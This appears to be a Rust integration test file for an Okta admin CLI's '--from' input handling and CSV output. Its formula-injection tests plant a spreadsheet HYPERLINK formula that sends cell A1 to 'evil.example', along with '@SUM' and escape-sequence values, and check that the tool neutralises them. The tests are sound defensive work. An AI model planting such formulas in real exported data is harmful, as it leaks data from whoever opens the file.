//! `--from` read within bounds (endless devices, huge fields, directories,
//! pipes, bad bytes), the users' column made explicit, delimiters and line
//! endings; and CSV output a spreadsheet cannot run.

use std::process::Output;
use std::time::{Duration, Instant};

use mockito::{Matcher, Mock};
use serde_json::json;

use crate::support::org::{NoMutation, Org};
use crate::support::{json_out, text, user, Sandbox, TOKEN};

/// The virtual memory `--from` runs get (`ulimit -v`, KiB): far below what
/// reading an endless input into memory takes (the unbounded reader reached
/// 2 GB from /dev/zero in under 2 s).
const MEMORY_KIB: u32 = 256 * 1024;

/// Mocks proving that nothing at all reached the org.
fn nothing_sent(org: &mut Org) -> (Mock, NoMutation) {
    let reads = org
        .mock("GET", Matcher::Any)
        .match_query(Matcher::Any)
        .expect(0)
        .create();
    (reads, org.no_mutation())
}

/// `oktactl unlock --from FROM EXTRA…` under a memory limit, with its
/// stdout/stderr and how long it took.
fn unlock_from(sb: &Sandbox, org: &str, from: &str, extra: &[&str]) -> (Output, String, Duration) {
    let bin = assert_cmd::cargo::cargo_bin("oktactl");
    let started = Instant::now();
    let out = assert_cmd::Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {MEMORY_KIB} && exec \"$0\" \"$@\""))
        .arg(bin)
        .args(["unlock", "--from", from, "--no-preflight"])
        .args(extra)
        .env_clear()
        .envs(sb.env())
        .env("OKTA_ORG_URL", org)
        .env("OKTA_API_TOKEN", TOKEN)
        .timeout(Duration::from_secs(30))
        .output()
        .unwrap();
    let took = started.elapsed();
    let (_, stderr) = text(&out);
    (out, stderr, took)
}

fn assert_refused(out: &Output, stderr: &str, says: &[&str]) {
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(out.stdout.is_empty(), "{}", text(out).0);
    for s in says {
        assert!(stderr.contains(s), "no {s:?} in: {stderr}");
    }
}

#[test]
fn endless_devices_stop_at_a_limit_in_bounded_memory() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    let (out, stderr, took) = unlock_from(&sb, &org.url(), "/dev/zero", &[]);
    assert_refused(
        &out,
        &stderr,
        &["/dev/zero", "line 1 is longer than 64 KiB"],
    );
    eprintln!("/dev/zero refused in {took:?}");
    // Random bytes are not UTF-8 long before any limit.
    let (out, stderr, took) = unlock_from(&sb, &org.url(), "/dev/urandom", &[]);
    assert_refused(&out, &stderr, &["/dev/urandom", "is not UTF-8"]);
    eprintln!("/dev/urandom refused in {took:?}");
    assert!(sb.audit_lines().is_empty());
    reads.assert();
    unchanged.assert();
}

#[test]
fn a_ten_megabyte_field_is_refused() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    let file = sb.path("big.csv");
    let field = "a".repeat(10_000_000);
    std::fs::write(&file, format!("name,email\n\"{field}\",jane@acme.com\n")).unwrap();
    let (out, stderr, _) = unlock_from(&sb, &org.url(), file.to_str().unwrap(), &[]);
    assert_refused(&out, &stderr, &["line 2 is longer than 64 KiB", "limit"]);
    reads.assert();
    unchanged.assert();
}

#[test]
fn a_directory_or_a_named_pipe_is_refused_without_waiting() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    let dir = sb.dir.path().to_str().unwrap().to_string();
    let (out, stderr, _) = unlock_from(&sb, &org.url(), &dir, &[]);
    assert_refused(&out, &stderr, &["is a directory"]);
    // A FIFO with no writer: opening it would block for ever.
    let fifo = sb.path("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let (out, stderr, took) = unlock_from(&sb, &org.url(), fifo.to_str().unwrap(), &[]);
    assert_refused(&out, &stderr, &["named pipe", "--from -"]);
    assert!(took < Duration::from_secs(20), "{took:?}");
    reads.assert();
    unchanged.assert();
}

#[test]
fn bad_bytes_are_refused_with_their_line() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    let file = sb.path("users.txt");
    std::fs::write(&file, b"a@acme.com\r\nb@acme.com\r\n\xffc@acme.com\r\n").unwrap();
    let (out, stderr, _) = unlock_from(&sb, &org.url(), file.to_str().unwrap(), &[]);
    assert_refused(&out, &stderr, &["line 3 is not UTF-8", "UTF-8"]);
    reads.assert();
    unchanged.assert();
}

#[test]
fn several_user_columns_need_column() {
    let mut org = Org::new();
    let sb = Sandbox::new();
    let file = sb.path("leavers.csv");
    // An `id` of employee numbers beside the email.
    std::fs::write(&file, "id,name,email\n1042,Jane Doe,jane@acme.com\n").unwrap();
    let from = file.to_str().unwrap();
    {
        let (reads, unchanged) = nothing_sent(&mut org);
        let (out, stderr, _) = unlock_from(&sb, &org.url(), from, &[]);
        assert_refused(
            &out,
            &stderr,
            &["id, email", "--column id or --column email"],
        );
        reads.assert();
        unchanged.assert();
    }
    org.reset();
    let get = org.user(
        "jane%40acme.com",
        user("00u1", "jane@acme.com", "LOCKED_OUT"),
    );
    let post = org.lifecycle("00u1", "unlock", Matcher::Missing, "");
    let (out, stderr, _) = unlock_from(&sb, &org.url(), from, &["--column", "email", "-o", "json"]);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let v = json_out(&out);
    assert_eq!(v["results"][0]["user"], "jane@acme.com");
    assert_eq!(v["results"][0]["result"], "unlocked");
    let changes = sb.audit_changes();
    assert_eq!(changes.len(), 1);
    assert_eq!(changes[0]["user_id"], "00u1");
    assert_eq!(changes[0]["outcome"], "unlocked");
    get.assert();
    post.assert();
}

#[test]
fn a_header_naming_no_user_column_sends_nothing() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    for (name, body, says) in [
        (
            "two.csv",
            "Employee,Department\n1042,R&D\n",
            "names no column of users",
        ),
        ("one.txt", "Leavers\njane@acme.com\n", "'Leavers'"),
    ] {
        let file = sb.path(name);
        std::fs::write(&file, body).unwrap();
        let (out, stderr, _) = unlock_from(&sb, &org.url(), file.to_str().unwrap(), &[]);
        assert_refused(&out, &stderr, &[says]);
    }
    assert!(sb.audit_lines().is_empty());
    reads.assert();
    unchanged.assert();
}

/// Unlock two users read from `body`: both looked up and unlocked.
fn unlock_two(body: &[u8]) {
    let mut org = Org::new();
    let mut mocks = Vec::new();
    for (id, login) in [("00u1", "jane@acme.com"), ("00u2", "bob@acme.com")] {
        let at = login.replace('@', "%40");
        mocks.push(org.user(&at, user(id, login, "LOCKED_OUT")));
        mocks.push(org.lifecycle(id, "unlock", Matcher::Missing, ""));
    }
    let sb = Sandbox::new();
    let file = sb.path("users.csv");
    std::fs::write(&file, body).unwrap();
    let (out, stderr, _) = unlock_from(&sb, &org.url(), file.to_str().unwrap(), &["-o", "json"]);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let v = json_out(&out);
    assert_eq!(v["ok"], 2);
    assert_eq!(v["results"][1]["user"], "bob@acme.com");
    let changes = sb.audit_changes();
    let ids: Vec<&str> = changes
        .iter()
        .map(|c| c["user_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 2);
    assert!(ids.contains(&"00u1") && ids.contains(&"00u2"), "{ids:?}");
    for m in mocks {
        m.assert();
    }
}

#[test]
fn semicolon_separated_input() {
    unlock_two(b"Name;Email;Dept\n\"Doe, Jane\";jane@acme.com;R&D\nBob;bob@acme.com;\n");
}

#[test]
fn tab_separated_input_with_cr_only_line_endings() {
    unlock_two(b"name\temail\rJane\tjane@acme.com\rBob\tbob@acme.com\r");
    unlock_two(b"jane@acme.com\rbob@acme.com");
}

#[test]
fn mixed_delimiters_are_refused() {
    let mut org = Org::new();
    let (reads, unchanged) = nothing_sent(&mut org);
    let sb = Sandbox::new();
    let file = sb.path("users.csv");
    std::fs::write(&file, "name;email,dept\nJane;jane@acme.com,R&D\n").unwrap();
    let (out, stderr, _) = unlock_from(&sb, &org.url(), file.to_str().unwrap(), &[]);
    assert_refused(&out, &stderr, &["cannot tell which separates the columns"]);
    reads.assert();
    unchanged.assert();
}

/// `user list -o csv` (plus `extra`) of one user whose profile holds formulas.
fn listed_csv(extra: &[&str]) -> csv::StringRecord {
    let mut org = Org::new();
    let mut u = user("00u1", "jane@acme.com", "ACTIVE");
    u["profile"]["firstName"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    u["profile"]["title"] = json!("@SUM(1+1)");
    u["profile"]["department"] = json!("-2+3\u{1b}[31m");
    u["profile"]["manager"] = json!("-");
    let list = org.get("/api/v1/users", json!([u]));
    let sb = Sandbox::new();
    let out = sb
        .cmd(&org.url())
        .args(["user", "list", "-o", "csv"])
        .args(extra)
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    list.assert();
    let mut reader = csv::Reader::from_reader(stdout.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{stdout}");
    let mut row = csv::StringRecord::new();
    for want in [
        "id",
        "email",
        "name",
        "title",
        "department",
        "manager",
        "password_expires",
    ] {
        let at = header.iter().position(|h| h == want).unwrap();
        row.push_field(&rows[0][at]);
    }
    row
}

#[test]
fn csv_output_cells_cannot_run_as_formulas() {
    let row = listed_csv(&[]);
    assert_eq!(&row[0], "00u1");
    assert_eq!(&row[1], "jane@acme.com");
    assert_eq!(
        &row[2],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Doe"
    );
    assert_eq!(&row[3], "'@SUM(1+1)");
    assert_eq!(&row[4], "'-2+3\\u{1b}[31m");
    // Null is an empty cell; a real value `-` is escaped like any formula start.
    assert_eq!(&row[5], "'-");
    assert_eq!(&row[6], "");
}

#[test]
fn csv_raw_writes_cells_as_they_are() {
    let row = listed_csv(&["--csv-raw"]);
    assert_eq!(
        &row[2],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Doe"
    );
    assert_eq!(&row[3], "@SUM(1+1)");
    assert_eq!(&row[4], "-2+3\u{1b}[31m");
}

#[test]
fn user_list_csv_pipes_into_unlock_with_column_id() {
    let mut org = Org::new();
    let mut mocks = Vec::new();
    let mut users = Vec::new();
    for (id, login) in [("00u1", "=jane@acme.com"), ("00u2", "bob@acme.com")] {
        users.push(user(id, login, "LOCKED_OUT"));
        mocks.push(org.user(id, user(id, login, "LOCKED_OUT")));
        mocks.push(org.lifecycle(id, "unlock", Matcher::Missing, ""));
    }
    mocks.push(org.get("/api/v1/users", json!(users)));
    let sb = Sandbox::new();
    let (out, listed, stderr) = sb.run(&org.url(), &["user", "list", "-o", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(listed.contains(",'=jane@acme.com,"), "{listed}");
    let refused = sb
        .cmd(&org.url())
        .args(["unlock", "--from", "-", "--no-preflight"])
        .write_stdin(listed.clone())
        .output()
        .unwrap();
    let (_, stderr) = text(&refused);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("id, login, email"), "{stderr}");
    let out = sb
        .cmd(&org.url())
        .args(["unlock", "--from", "-", "--column", "id", "--no-preflight"])
        .args(["-o", "json"])
        .write_stdin(listed)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out).1);
    assert_eq!(json_out(&out)["ok"], 2);
    assert_eq!(sb.audit_changes().len(), 2);
    for m in mocks {
        m.assert();
    }
}
